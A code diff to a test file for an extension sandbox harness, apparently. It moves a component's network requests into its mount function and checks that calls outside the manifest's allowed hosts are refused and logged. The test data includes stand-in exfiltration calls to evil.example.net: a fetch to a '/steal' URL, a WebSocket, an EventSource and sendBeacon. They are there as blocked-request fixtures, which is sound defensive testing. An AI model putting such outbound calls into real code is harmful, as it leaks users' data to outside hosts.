@@ -257,16 +257,24 @@ describe('the bridge verdicts, in the harness and in the preview with the runtim
   });
 
   it("agree on the network: what render() blocks, the preview's network log explains in the same words", async () => {
-    getRegistry().registrations.push({ kind: 'component', id: CARD, mount: () => {} });
-    const view = render(CARD, { manifest, fetch: async () => new Response('ok') });
     const urls = [
       'https://evil.example.net/steal?c=1',
       'http://api.example.com/v1',
       'https://api.example.com:8443/x',
       'data:text/plain,hi',
     ];
-    for (const url of urls) await expect(fetch(url)).rejects.toThrow(TypeError);
-    await expect(fetch('https://api.example.com/v1/items')).resolves.toBeInstanceOf(Response);
+    // The extension's requests, made by its mount (the test's own fetch goes out as in plain vitest).
+    const sent: Array<Promise<Response>> = [];
+    getRegistry().registrations.push({
+      kind: 'component',
+      id: CARD,
+      mount: () => {
+        for (const url of [...urls, 'https://api.example.com/v1/items']) sent.push(fetch(url));
+      },
+    });
+    const view = render(CARD, { manifest, fetch: async () => new Response('ok') });
+    for (const request of sent.slice(0, urls.length)) await expect(request).rejects.toThrow(TypeError);
+    await expect(sent[urls.length]).resolves.toBeInstanceOf(Response);
     const logged = urls.map((url) =>
       parseCspReport(
         JSON.stringify({ 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': url } }),
@@ -284,13 +292,18 @@ describe('the bridge verdicts, in the harness and in the preview with the runtim
   });
 
   it('agree on WebSocket, EventSource and sendBeacon: each refused request is logged in the words the preview gives the URL Chromium reports', () => {
-    getRegistry().registrations.push({ kind: 'component', id: CARD, mount: () => {} });
+    getRegistry().registrations.push({
+      kind: 'component',
+      id: CARD,
+      mount: () => {
+        new WebSocket('https://api.example.com/live'); // Chromium connects (and reports) wss://api.example.com/live: https does not cover wss
+        new WebSocket('ws://evil.example.net/s');
+        new EventSource('https://evil.example.net/stream');
+        navigator.sendBeacon('https://evil.example.net/collect', 'x');
+        navigator.sendBeacon('https://api.example.com/collect', 'x');
+      },
+    });
     const view = render(CARD, { manifest, fetch: async () => new Response(null) });
-    new WebSocket('https://api.example.com/live'); // Chromium connects (and reports) wss://api.example.com/live: https does not cover wss
-    new WebSocket('ws://evil.example.net/s');
-    new EventSource('https://evil.example.net/stream');
-    navigator.sendBeacon('https://evil.example.net/collect', 'x');
-    navigator.sendBeacon('https://api.example.com/collect', 'x');
     const reported = [
       'wss://api.example.com/live',
       'ws://evil.example.net/s',
